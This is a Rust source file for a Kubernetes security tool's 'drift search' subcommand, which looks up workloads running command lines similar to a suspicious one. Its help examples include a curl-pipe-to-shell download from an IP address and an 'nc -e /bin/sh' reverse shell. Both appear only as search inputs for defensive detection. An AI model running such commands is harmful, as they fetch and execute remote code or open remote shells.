//! `kubectl drift search`: which workloads run something like this.

mod asked;

use std::{fmt::Write as _, process::ExitCode, time::Duration};

use anchorwatch_crds::v1alpha1::{BehaviorQuery, BehaviorQuerySpec, BehaviorQueryStatus, DriftAlert, QueryAnswer};
use anyhow::{Context, bail};
use jiff::Timestamp;
use kube::{Api, Client, api::PostParams};
use tokio::time::{Instant, sleep};

use crate::{
    connect::Connection,
    output::Output,
    table::table,
    text::{age, safe},
};

/// What is said below the help.
pub const AFTER_HELP: &str = "\
Examples:
  kubectl drift search 'bash -c \"curl -s http://203.0.113.9/x | sh\"' -n shop
  kubectl drift search -A --like deployment-agent-4f0c9d1e -n shop
  kubectl drift search 'nc -e /bin/sh' -A -o wide

Secrets in what you type are taken out before it leaves this machine, as sensors do. You find what you may list: \
behaviorbaselines in the namespace or, with -A, everywhere.

Exit codes: 0 something was found, 1 failed, 2 misuse, 3 nothing was found.";

/// How long the operator may take: it may have to make its index first.
const PATIENCE: Duration = Duration::from_mins(1);
/// How often the answer is looked for.
const POLL: Duration = Duration::from_millis(250);
/// What the process ends with where nothing was found.
const NOTHING: u8 = 3;

/// What to search for, and where.
#[derive(Debug, clap::Args)]
pub struct Args {
    /// The command line, as one would type it.
    #[arg(required_unless_present = "like", conflicts_with = "like")]
    text: Option<String>,
    /// Instead: the command line of this alert's first finding that has one.
    #[arg(long, value_name = "ALERT")]
    like: Option<String>,
    /// Workloads of every namespace.
    #[arg(long, short = 'A')]
    all_namespaces: bool,
    /// How many answers at the most.
    #[arg(long, default_value_t = 10, value_parser = clap::value_parser!(i32).range(1..=50))]
    limit: i32,
    /// Form of the output.
    #[arg(long, short, value_enum, default_value_t = Output::Table)]
    output: Output,
}

/// Asks the operator and shows what it answers.
pub async fn run(connection: &Connection, args: &Args) -> anyhow::Result<ExitCode> {
    let (client, namespace) = connection.open().await?;
    let command = match (&args.text, &args.like) {
        (Some(text), _) => asked::of_text(text),
        (None, Some(alert)) => of_alert(&client, &namespace, alert).await?,
        (None, None) => bail!("say what to search for: a command line, or --like ALERT"),
    };
    if command.is_empty() {
        bail!("there is nothing in it to search for");
    }
    let spec = BehaviorQuerySpec {
        command,
        all_namespaces: args.all_namespaces,
        limit: args.limit,
    };
    let status = ask(client, &namespace, spec).await?;
    args.output
        .print(&status, |wide| render(&status, wide, Timestamp::now()))?;
    Ok(if status.answers.is_empty() {
        ExitCode::from(NOTHING)
    } else {
        ExitCode::SUCCESS
    })
}

async fn of_alert(client: &Client, namespace: &str, name: &str) -> anyhow::Result<String> {
    let name = name.trim_start_matches("driftalert/");
    let alert = Api::<DriftAlert>::namespaced(client.clone(), namespace)
        .get_opt(name)
        .await?;
    let alert = alert.with_context(|| {
        format!("namespace {namespace} has no DriftAlert {name:?}: `kubectl drift list -A` lists all of them")
    })?;
    asked::of_alert(&alert)
        .with_context(|| format!("no finding of {name} is about a process: there is nothing to compare"))
}

/// Makes the query and waits for its answer. The operator deletes it.
async fn ask(client: Client, namespace: &str, spec: BehaviorQuerySpec) -> anyhow::Result<BehaviorQueryStatus> {
    let api: Api<BehaviorQuery> = Api::namespaced(client, namespace);
    let query = BehaviorQuery::new(&asked::name()?, spec);
    let name = query.metadata.name.clone().unwrap_or_default();
    api.create(&PostParams::default(), &query)
        .await
        .context("the search can't be asked for")?;
    let asked = Instant::now();
    while asked.elapsed() < PATIENCE {
        let query = api.get_opt(&name).await.context("the answer can't be read")?;
        let query = query.with_context(|| {
            format!("too many searches are asked for in namespace {namespace} just now: try again in five minutes")
        })?;
        if let Some(status) = query.status.filter(|status| status.phase.is_some()) {
            return Ok(status);
        }
        sleep(POLL).await;
    }
    bail!(
        "the operator has not answered BehaviorQuery {name} for {} s: does it run, and lead?",
        PATIENCE.as_secs()
    )
}

fn render(status: &BehaviorQueryStatus, wide: bool, now: Timestamp) -> String {
    if status.answers.is_empty() {
        return format!("Nothing like it among {} command lines.\n", status.searched);
    }
    let mut headings = vec!["ALIKE", "NAMESPACE", "WORKLOAD", "CONTAINER", "FIRST SEEN", "LAST SEEN"];
    if wide {
        headings.push("EXECUTABLE");
    }
    headings.push("COMMAND");
    let row = |answer: &QueryAnswer| {
        let mut row = vec![
            format!("{:.2}", answer.similarity),
            safe(&answer.namespace),
            safe(&format!("{}/{}", answer.kind, answer.name)),
            safe(&answer.container),
            age(Some(answer.first_seen.0), now),
            age(Some(answer.last_seen.0), now),
        ];
        if wide {
            row.push(safe(&answer.executable));
        }
        row.push(safe(&answer.command));
        row
    };
    let mut text = table(&headings, &status.answers.iter().map(row).collect::<Vec<_>>());
    if status.left_out > 0 {
        writeln!(text, "{} command lines found no room in the index.", status.left_out)
            .expect("writing to a String can't fail");
    }
    text
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    #[test]
    fn answers_are_shown_with_how_alike_they_are_and_nothing_that_moves_the_terminal() {
        let status: BehaviorQueryStatus = serde_json::from_value(json!({
            "phase": "Answered", "searched": 3, "answers": [{
                "namespace": "shop", "kind": "Deployment", "name": "cart", "container": "app",
                "executable": "/usr/bin/bash", "command": "bash -c 'id\u{1b}[2J'", "similarity": 0.25,
                "firstSeen": "2026-01-01T00:00:00Z", "lastSeen": "2026-01-01T01:00:00Z",
            }],
        }))
        .unwrap();
        let now = "2026-01-01T02:00:00Z".parse().unwrap();
        let text = render(&status, true, now);
        assert!(
            text.contains("0.25") && text.contains("Deployment/cart") && text.contains("/usr/bin/bash"),
            "{text}"
        );
        assert!(!text.contains('\u{1b}'), "{text:?}");
        assert!(!render(&status, false, now).contains("EXECUTABLE"));
        let none = render(&BehaviorQueryStatus::default(), false, now);
        assert_eq!(none, "Nothing like it among 0 command lines.\n");
    }
}
